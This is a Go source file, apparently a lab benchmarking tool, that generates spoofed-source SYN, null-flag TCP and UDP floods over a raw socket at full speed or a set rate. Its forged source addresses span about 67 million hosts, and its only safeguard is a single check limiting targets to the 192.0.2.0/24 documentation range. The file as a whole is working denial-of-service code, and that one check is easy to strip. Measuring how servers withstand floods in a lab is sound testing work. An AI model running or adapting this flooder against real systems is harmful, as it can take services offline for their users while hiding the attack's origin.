package main

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"runtime"
	"time"

	"golang.org/x/sys/unix"
)

// Kinds of floods: what nobody answers for, each packet from another of 67 million
// sources.
var floods = map[string]func(to netip.Addr, number int) []byte{
	"syn-open":   func(to netip.Addr, number int) []byte { return syn(to, number, 80) },
	"syn-closed": func(to netip.Addr, number int) []byte { return syn(to, number, closedPort(number)) },
	"null": func(to netip.Addr, number int) []byte {
		p := syn(to, number, closedPort(number))
		p[20+13] = 0 // flags
		return summed(p)
	},
	"udp": udp,
}

// closedPort is one of 20,000 that no service answers, below those of clients.
func closedPort(number int) uint16 { return uint16(10000 + scatter(number)>>7%20000) }

// scatter spreads numbers over 32 bits, each to another (Knuth's multiplicative hash).
func scatter(number int) uint32 { return uint32(number) * 2654435761 }

// forged writes the source of a packet of that number: of 20.0.0.0/6, none of which is
// in a lab.
func forged(p []byte, number int) {
	binary.BigEndian.PutUint32(p[12:], 20<<24|scatter(number)>>6)
}

// syn is the SYN of that number: an IPv4 header, whose checksum the kernel
// fills in (raw(7)), and a TCP header with the options of a Linux client.
func syn(to netip.Addr, number int, port uint16) []byte {
	p := make([]byte, 60)
	p[0], p[6], p[8], p[9] = 0x45, 0x40, 64, unix.IPPROTO_TCP
	forged(p, number)
	copy(p[16:], to.AsSlice())
	tcp := p[20:]
	binary.BigEndian.PutUint16(tcp, uint16(1024+number%60000))
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], scatter(number))
	tcp[12], tcp[13] = 10<<4, 2 // ten words of header, SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[20:], []byte{2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7})
	return summed(p)
}

// summed fills in TCP's checksum.
func summed(p []byte) []byte {
	p[36], p[37] = 0, 0
	binary.BigEndian.PutUint16(p[36:], checksum(p))
	return p
}

// udp is a datagram without a checksum (RFC 768).
func udp(to netip.Addr, number int) []byte {
	p := make([]byte, 48)
	p[0], p[6], p[8], p[9] = 0x45, 0x40, 64, unix.IPPROTO_UDP
	forged(p, number)
	copy(p[16:], to.AsSlice())
	binary.BigEndian.PutUint16(p[20:], uint16(1024+number%60000))
	binary.BigEndian.PutUint16(p[22:], closedPort(number))
	binary.BigEndian.PutUint16(p[24:], 28)
	return p
}

// sent is how many packets this process has sent: no two floods begin alike.
var sent int

// flooding is the traffic of a flood at full speed. It returns how many packets the
// server has had: the sender's processor brings each to its end.
func flooding(kind string) func(netip.Addr, time.Duration) (float64, error) {
	return func(to netip.Addr, length time.Duration) (float64, error) {
		first := sent
		err := forge(to, length, 0, floods[kind])
		return float64(sent - first), err
	}
}

// forge sends packets for so long: so many a second, or as many as it can if rate is 0.
func forge(to netip.Addr, length time.Duration, rate int, packet func(netip.Addr, int) []byte) error {
	if !netip.MustParsePrefix("192.0.2.0/24").Contains(to) {
		return fmt.Errorf("%s is no address of a lab", to)
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	address, start, first := &unix.SockaddrInet4{Addr: to.As4()}, time.Now(), sent
	for since := time.Duration(0); since < length; since = time.Since(start) {
		due := sent + 64
		if rate > 0 {
			due = first + int(since.Seconds()*float64(rate))
		}
		for ; sent < due; sent++ {
			if err := unix.Sendto(fd, packet(to, sent), 0, address); err != nil && err != unix.ENOBUFS {
				return err
			}
		}
		if rate > 0 {
			time.Sleep(time.Millisecond)
		}
	}
	return nil
}

// checksum is that of the TCP segment with its pseudo-header (RFC 9293, 3.1).
func checksum(packet []byte) uint16 {
	sum := uint32(unix.IPPROTO_TCP) + uint32(len(packet)-20)
	for i := 12; i < len(packet); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
